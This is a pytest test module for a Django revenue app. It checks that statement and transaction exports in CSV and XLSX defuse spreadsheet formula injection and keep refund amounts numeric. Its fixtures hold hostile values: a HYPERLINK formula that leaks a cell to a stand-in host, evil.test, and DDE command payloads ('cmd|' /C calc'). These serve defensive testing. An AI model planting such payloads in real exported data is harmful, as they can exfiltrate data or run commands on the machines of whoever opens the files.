"""Statement and transaction files never carry a live formula, and their amounts stay numbers:
a partner's hostile display name and external ids come out inert in the portal's and the
admin's downloads; a refund's negative amount is a number (XLSX: in the money format)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from core.exports import MONEY_FORMAT
from revenue import services
from revenue.models import Statement
from tests.factories import MembershipFactory, UserFactory

from .factories import item, record

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("https://evil.test/?leak="&A1,"Open")'
EXTERNAL_ID = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile(partner, agreement):
    """Skyway renamed to a formula; January has two sales and a refund of one (a negative line)."""
    partner.display_name = NAME
    partner.save(update_fields=["display_name"])
    record(
        partner,
        item(amount="100.00", external_id=EXTERNAL_ID),
        item(amount="250.00", external_id="sale-2"),
        item(amount="250.00", kind="refund", external_id="-2+3+cmd|' /C calc'!A0", refund_of="sale-2"),
    )
    services.settlement_start(through=date(2026, 1, 31), trigger="command")
    return Statement.objects.get(partner=partner)


@pytest.fixture
def fiona(partner):
    user = UserFactory(email="fiona@skyway.example")
    MembershipFactory(user=user, partner=partner, role="finance")
    return user


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _cells(rows) -> set[str]:
    return {cell for row in rows for cell in row}


@pytest.mark.parametrize("url", ["portal:statement-csv", "admin:revenue_statement_csv"])
def test_the_statement_csv_quotes_the_partner_name_and_keeps_negative_amounts_numeric(
    client, admin_user, fiona, hostile, url
):
    client.force_login(admin_user if url.startswith("admin") else fiona)

    rows = _csv(client.get(reverse(url, args=[hostile.pk])))

    assert rows[0][3] == "'" + NAME
    assert NAME not in {cell for row in rows for cell in row}
    refund = next(row for row in rows if row[5:6] == ["refund"])
    assert refund[7:9] == ["-250.00", "-75.00"]  # numbers, no quote
    assert ["Share", "30.00"] in rows


@pytest.mark.parametrize("url", ["portal:statement-xlsx", "admin:revenue_statement_xlsx"])
def test_the_statement_xlsx_has_text_cells_for_names_and_money_cells_for_amounts(
    client, admin_user, fiona, hostile, url
):
    client.force_login(admin_user if url.startswith("admin") else fiona)

    response = client.get(reverse(url, args=[hostile.pk]))

    assert response["Content-Disposition"].startswith("attachment;")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert (sheet["D1"].value, sheet["D1"].data_type) == ("'" + NAME, "s")
    refund = next(row for row in sheet.iter_rows() if len(row) > 5 and row[5].value == "refund")
    gross, share = refund[7], refund[8]
    assert (Decimal(str(gross.value)), gross.data_type, gross.number_format) == (
        Decimal("-250"),
        "n",
        MONEY_FORMAT,
    )
    assert (Decimal(str(share.value)), share.data_type, share.number_format) == (
        Decimal("-75"),
        "n",
        MONEY_FORMAT,
    )
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_portal_transactions_csv_quotes_external_ids(client, fiona, hostile):
    client.force_login(fiona)

    rows = _csv(client.get(reverse("portal:transactions"), {"export": "csv"}))

    assert {"'" + EXTERNAL_ID, "'-2+3+cmd|' /C calc'!A0"} <= _cells(rows)
    assert EXTERNAL_ID not in _cells(rows)
    assert "partner__slug" not in rows[0]
    assert rows[0][:4] == ["Transaction", "Partner", "Partner code", "External id"]
    amounts = [row[rows[0].index("Amount")] for row in rows[1:]]
    assert sorted(amounts) == ["100.00", "250.00", "250.00"]


def test_the_admin_transactions_exports_quote_external_ids(admin_client, hostile):
    statement_rows = _csv(
        admin_client.get(reverse("admin:revenue_statement_transactions", args=[hostile.pk]))
    )
    action = admin_client.post(
        reverse("admin:revenue_transaction_changelist"),
        {
            "action": "export_csv",
            "_selected_action": list(hostile.partner.transactions.values_list("pk", flat=True)),
        },
    )

    for rows in (statement_rows, _csv(action)):
        assert "'" + EXTERNAL_ID in _cells(rows)
        assert EXTERNAL_ID not in _cells(rows)


def test_statement_rows_carry_names_and_labels_beside_the_codes(client, fiona, hostile):
    client.force_login(fiona)

    rows = _csv(client.get(reverse("portal:statement-csv", args=[hostile.pk])))

    header = rows[3]
    assert header[:6] == ["Scenario", "Scenario code", "Product", "Product code", "Kind", "Kind code"]
    refund = next(row for row in rows if row[5:6] == ["refund"])
    product = hostile.lines.get(kind="refund").product
    assert refund[:6] == [
        hostile.agreement.scenario.name,
        hostile.scenario_code,
        product.name,
        product.code,
        "Refund",
        "refund",
    ]
    assert rows[1][3:7] == ["Status", "Draft", "Status code", "draft"]


def test_statement_labels_follow_the_users_language(client, fiona, hostile):
    client.force_login(fiona)
    client.cookies["django_language"] = "zh-hans"

    rows = _csv(client.get(reverse("portal:statement-csv", args=[hostile.pk])))

    refund = next(row for row in rows if row[5:6] == ["refund"])
    assert refund[4] == "退款"
    assert rows[3][3] == "产品代码"


def test_the_transaction_detail_has_names_and_labels_and_a_code_column_for_each(client, fiona, hostile):
    client.force_login(fiona)

    rows = _csv(client.get(reverse("portal:transactions"), {"export": "csv"}))

    header = rows[0]
    refund = next(dict(zip(header, row, strict=True)) for row in rows[1:] if "refund" in row)
    product = hostile.lines.get(kind="refund").product
    assert (refund["Partner"], refund["Partner code"]) == ("'" + NAME, "skyway")
    assert (refund["Product"], refund["Product code"]) == (product.name, product.code)
    assert (refund["Scenario"], refund["Scenario code"]) == (
        hostile.agreement.scenario.name,
        hostile.scenario_code,
    )
    assert (refund["Kind"], refund["Kind code"]) == ("Refund", "refund")
    assert (refund["Source"], refund["Source code"]) == ("Open API", "api")
    assert refund["Amount"] == "250.00"
